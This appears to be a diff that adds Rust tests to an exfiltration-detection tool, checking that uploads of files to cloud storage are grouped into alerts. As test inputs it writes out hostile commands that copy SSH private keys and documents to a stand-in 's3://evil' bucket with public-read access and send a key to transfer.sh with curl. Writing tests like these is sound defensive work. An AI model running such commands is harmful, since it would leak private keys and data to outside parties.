@@ -383,3 +383,95 @@ fn environment_and_endpoints() {
     let typed = told(&remotes, &["RCLONE_CONFIG_X_TYPE=s3"]);
     assert_eq!(typed.alert().tenant.as_deref(), Some("loot"));
 }
+
+/// A copy that lets everybody read it is one act, and one alert: of the command, of what it sends, of both.
+#[test]
+fn one_act_is_one_alert() {
+    for (line, host, tenant, severity) in [
+        ("aws s3 cp .ssh/id_rsa s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
+        ("aws s3 cp .ssh/id_rsa s3://corp-backup/k --acl public-read", "s3.amazonaws.com", "anyone", "high"),
+        ("aws s3 cp Documents/plan.docx s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
+        ("s3cmd put -P .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "evil", "high"),
+        ("gsutil cp -a public-read .ssh/id_rsa gs://evil/k", "storage.googleapis.com", "evil", "high"),
+        (
+            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa --grant-read id=$WHO --acl public-read",
+            "evil.s3.eu-west-1.amazonaws.com",
+            "evil",
+            "high",
+        ),
+    ] {
+        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
+        for wrapped in [false, true] {
+            let mut w = World::new();
+            w.policy = own();
+            let shell = if wrapped {
+                w.launch(0.5, ZSH, &["zsh", "-c", line])
+            } else {
+                w.launch(0.5, ZSH, &["-zsh"])
+            };
+            let p = w.spawn(1.0, &shell, tool(words[0]), &words);
+            w.upload(2.0, &p, host, 20_000);
+            let told = w.tell();
+            let alert = told.alert();
+            assert_eq!((alert.tenant.as_deref(), alert.count), (Some(tenant), 1), "{line}");
+            assert!(alert.severity.as_str() >= severity || alert.severity.as_str() == "critical", "{line}");
+            let rules: Vec<&str> = alert.rules.iter().map(|rule| &*rule.id).collect();
+            assert!(rules.contains(&"cw.transfer.control-plane"), "{line}: {rules:?}");
+            assert!(rules.contains(&"cw.exfil.cloud-storage"), "{line}: {rules:?}");
+            assert!(alert.bytes_out >= 20_000 && !alert.reads.is_empty(), "{line}");
+        }
+    }
+    let both = run("aws s3 cp s3://corp-data/x s3://evil/x --acl public-read", &own());
+    let alert = both.alert();
+    assert_eq!((alert.tenant.as_deref(), alert.count), (Some("evil"), 1));
+    for words in ["copies data from corp-data", "gives anyone access"] {
+        assert!(
+            alert.reasons.iter().any(|reason| reason.text.contains(words)),
+            "{words}: {:?}",
+            alert.reasons
+        );
+    }
+}
+
+/// What else the shell's line holds is another act.
+#[test]
+fn two_acts_of_one_line_are_two_alerts() {
+    let script = "aws s3 sync s3://corp-data s3://evil; curl -T .ssh/id_rsa https://transfer.sh/x";
+    for last_in_place in [false, true] {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
+        w.spawn(1.0, &shell, tool("aws"), &["aws", "s3", "sync", "s3://corp-data", "s3://evil"]);
+        let args = ["curl", "-T", ".ssh/id_rsa", "https://transfer.sh/x"];
+        let curl = apple("/usr/bin/curl", "com.apple.curl");
+        let p =
+            if last_in_place { w.exec(3.0, &shell, curl, &args) } else { w.spawn(3.0, &shell, curl, &args) };
+        w.upload(4.0, &p, "transfer.sh", 20_000);
+        let told = w.tell();
+        let mut ids: Vec<_> = told.alerts().iter().map(|alert| alert.id).collect();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), 2, "in place {last_in_place}: {:#?}", told.alerts());
+    }
+}
+
+/// Each file of a loop by a process of its own, each opened to everybody: one chain.
+#[test]
+fn a_loop_of_such_acts_is_one_alert() {
+    let mut w = World::new();
+    w.policy = own();
+    let script = "for f in id_rsa id_ed25519; do aws s3 cp ~/.ssh/$f s3://evil/ --acl public-read; done";
+    let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
+    for (at, file) in [(1.0, "/Users/alice/.ssh/id_rsa"), (9.0, "/Users/alice/.ssh/id_ed25519")] {
+        let p = w.spawn(
+            at,
+            &shell,
+            tool("aws"),
+            &["aws", "s3", "cp", file, "s3://evil/", "--acl", "public-read"],
+        );
+        w.upload(at + 1.0, &p, "s3.amazonaws.com", 20_000);
+    }
+    let told = w.tell();
+    let alert = told.alert();
+    assert_eq!((alert.tenant.as_deref(), alert.reads.len()), (Some("evil"), 2), "{alert:#?}");
+}
